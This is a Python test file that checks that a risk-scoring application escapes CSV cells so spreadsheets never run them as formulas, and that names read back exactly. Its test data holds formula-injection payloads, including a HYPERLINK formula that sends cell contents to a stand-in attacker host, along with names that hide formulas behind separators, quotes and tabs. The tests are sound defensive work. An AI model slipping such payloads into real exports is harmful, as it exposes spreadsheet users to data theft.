"""CSV files for people (issue 18): no cell a spreadsheet would run in riskscores.csv,
rejected.csv or /clients.csv, whether it splits them on ',' or on ';'; the exact names wherever
the system reads its own files back (read_risk_list, /risk, the pages, the state page).

The rule itself (pipeline.core.spreadsheet) is checked on every short text over the characters
that matter; the writers on names that would run, or cut a cell where one could run.
"""

from __future__ import annotations

import csv
import io
import itertools

import pandas as pd
import pyarrow as pa
import pytest

from app import create_app
from ingestion import run_ingestion
from pipeline.core import spreadsheet
from pipeline.core.schema import FEATURES
from pipeline.report.risk import read_risk_list, write_risk_list
from pipeline.web.system import read_rejected
from tests.helpers import add_hostile_clients, csv_bytes, outputs, rebuilt

# Names a spreadsheet runs as they are (OWASP's examples), then names that hide one behind a
# separator, a quote, a line break or a tab, and names that begin with the rule's own mark.
FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "=1+1", "+1+1", "-1+1",
            "@SUM(1+1)")
AWKWARD = ("acme;=1+1", "acme,=1+1", 'acme "=1+1"', 'acme;"=1+1', "acme\n=1+1", "acme\r\n@x",
           "\t=1+1", "\r=1+1", "acme\t-1+1", "'=1+1", "'quoted'", "acme;'=1+1")
NAMES = FORMULAS + AWKWARD
RUNS = ("=", "+", "-", "@", "\t", "\r")  # what makes a spreadsheet run a cell


def cells(text: str, delimiter: str) -> list[str]:
    """Every cell of a CSV text as a reader that splits on ``delimiter`` sees it."""
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
            for cell in row]


def runnable(cell: str) -> bool:
    """True for a cell a spreadsheet would run: it begins like a formula and is no number."""
    if not cell.startswith(RUNS):
        return False
    try:
        float(cell.removesuffix("%").replace(",", ""))  # -0.52, +12%: numbers, shown as such
    except ValueError:
        return True
    return False


def assert_nothing_runs(text: str) -> None:
    for delimiter in (",", ";", "\t"):
        assert [c for c in cells(text, delimiter) if runnable(c)] == [], delimiter


# The rule ------------------------------------------------------------------------------------

@pytest.mark.parametrize("text, written", [
    ("acme", "acme"),
    ("=1+1", "'=1+1"),
    ("+1+1", "'+1+1"),
    ("-1+1", "'-1+1"),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("\t=1", "'\t'=1"),             # a tab begins it, and another cell may begin after it
    ("\r=1", "'\r'=1"),
    ("'quoted'", "''quoted'"),      # a ' of its own: one more, so reading takes exactly one
    ("acme;=1+1", "acme;'=1+1"),    # a reader splitting on ; starts a cell after it
    ('acme;"=1+1', "acme;'\"=1+1"),  # ... and takes that quote as an opening one
    ("acme; =1+1", "acme; =1+1"),
    ("acme,=1+1", "acme,=1+1"),     # quoted: a reader splitting on , never cuts it
    ("a\nb", "a\n'b"),              # after every line break: a reader out of step starts a row
    ("Smith & Co.; Ltd", "Smith & Co.; Ltd"),
    ("", ""),
])
def test_the_rule_on_a_table_of_cases(text, written):
    assert spreadsheet.protect_text(text) == written
    assert spreadsheet.unprotect_text(written) == text
    column = pa.array([text, None], type=pa.large_string())
    assert spreadsheet.protect_column(column).to_pylist() == [written, None]


ALPHABET = (";", ",", "'", '"', "=", "-", "@", "\t", "\r", "\n", "a")
SHORT = ["".join(chars) for n in range(5) for chars in itertools.product(ALPHABET, repeat=n)]


def test_the_rule_is_undone_exactly_and_the_column_functions_agree():
    written = [spreadsheet.protect_text(t) for t in SHORT]
    assert [spreadsheet.unprotect_text(w) for w in written] == SHORT
    column = spreadsheet.protect_column(pa.chunked_array([SHORT[:999], SHORT[999:]]))
    assert column.to_pylist() == written
    assert spreadsheet.unprotect_column(column).to_pylist() == SHORT
    plain = pa.array(["acme", "bolt, inc.", "x'y", ""])
    assert spreadsheet.unprotect_column(plain) is plain  # nothing to undo: not even a copy


@pytest.mark.parametrize("layout", ["{t},-1,2,{u}", "1,{t},-0.5,{u}", "{t},{u}"])
def test_no_short_text_can_start_a_formula_cell_wherever_it_sits(layout):
    """Every short text, quoted as the writers quote text, in rows of text and numbers: read
    with ',', ';' or a tab as the separator, no cell begins a formula."""
    def field(text: str) -> str:
        return '"' + spreadsheet.protect_text(text).replace('"', '""') + '"'

    rows = [layout.format(t=field(t), u=field(u)) for t, u in zip(SHORT, reversed(SHORT),
                                                                   strict=True)]
    for start in range(0, len(rows), 1000):  # a quote out of step ends within a block
        assert_nothing_runs("\n".join(rows[start:start + 1000]) + "\n")


# riskscores.csv, /risk and the pages -----------------------------------------------------------

@pytest.fixture
def hostile(deployed):
    """The deployed project with the names above on its risk list."""
    add_hostile_clients(deployed, NAMES)
    return deployed


def test_riskscores_runs_nothing_keeps_numbers_and_reads_back_exact(hostile):
    text = (hostile.model_folder / "riskscores.csv").read_text(encoding="utf-8")
    assert_nothing_runs(text)
    header, *rows = list(csv.reader(io.StringIO(text, newline="")))
    contributions = [float(row[header.index(f"contribution_{f}")]) for row in rows
                     for f in FEATURES]  # bare numbers, negative ones included
    assert min(contributions) < 0
    written = read_risk_list(hostile.model_folder)
    assert set(NAMES) <= set(written["corporation"])
    assert written["top_contribution"].dtype.kind == "f"


def test_risk_and_the_pages_give_the_exact_names(hostile):
    client = create_app(hostile.config_path).test_client()
    answer = client.get("/risk?top=10000").get_json()
    assert set(NAMES) <= {c["corporation"] for c in answer["clients"]}
    for name in NAMES:
        response = client.get("/clients.csv", query_string={"q": name})
        text = response.get_data(as_text=True)
        assert_nothing_runs(text)
        header, *rows = list(csv.reader(io.StringIO(text, newline="")))
        assert header[1] == "Corporation"
        assert name in [spreadsheet.unprotect_text(row[1]) for row in rows], name


def test_a_risk_list_is_written_protected_and_read_back_exact(tmp_path):
    """write_risk_list and read_risk_list alone: text protected, numbers as numbers."""
    frame = pd.DataFrame({"corporation": list(NAMES), "probability": 0.5,
                          "rank": range(1, len(NAMES) + 1), "top_factor": "-1+1",
                          "top_contribution": -0.25})
    write_risk_list(frame, tmp_path / "riskscores.csv")
    text = (tmp_path / "riskscores.csv").read_text(encoding="utf-8")
    assert_nothing_runs(text)
    assert ',-0.25\n' in text  # a negative number stays a bare number
    pd.testing.assert_frame_equal(read_risk_list(tmp_path), frame, check_dtype=False)


# rejected.csv, rebuilt and appended ----------------------------------------------------------

def bad_rows(names) -> list[str]:
    """Rows that ingestion sets aside (a negative activity), one per name."""
    return ['"' + name.replace('"', '""') + '",-1,2,3,0' for name in names]


def test_rejected_csv_runs_nothing_and_an_append_writes_what_a_rebuild_writes(inputs, tmp_path):
    folder = inputs.input_folder
    (folder / "a.csv").write_bytes(csv_bytes(["acme,1,2,3,0", *bad_rows(NAMES[:9])]))
    (folder / "=1+1.csv").write_bytes(csv_bytes([]))  # set aside whole: its name in the file
    (folder / "@SUM(1+1).csv").write_bytes(csv_bytes(["core,1,2,3,0", *bad_rows(FORMULAS)]))
    first = run_ingestion(inputs)
    # A new file named to sort after them: the rebuild below, in a folder never ingested,
    # takes the files in name order.
    (folder / "b.csv").write_bytes(csv_bytes(["bolt,1,2,3,0", *bad_rows(NAMES[9:])]))
    second = run_ingestion(inputs)
    assert (first.mode, second.mode) == ("rebuild", "append")
    assert outputs(inputs.output_folder) == rebuilt(inputs, tmp_path)

    path = inputs.output_folder / "rejected.csv"
    text = path.read_text(encoding="utf-8")
    assert_nothing_runs(text)
    assert '"a.csv",3,"' in text  # the line a bare number
    expected = [{k: str(v) for k, v in row.items()} for row in first.rejects + second.rejects]
    assert len(expected) > len(NAMES) + len(FORMULAS)
    with open(path, newline="", encoding="utf-8") as handle:
        assert list(spreadsheet.read_rows(handle)) == expected
    shown = read_rejected(path)  # the state page: the rows as they came
    assert shown.examples == expected[:len(shown.examples)]
    assert {"=1+1.csv", "@SUM(1+1).csv"} <= {row["source_file"] for row in expected}
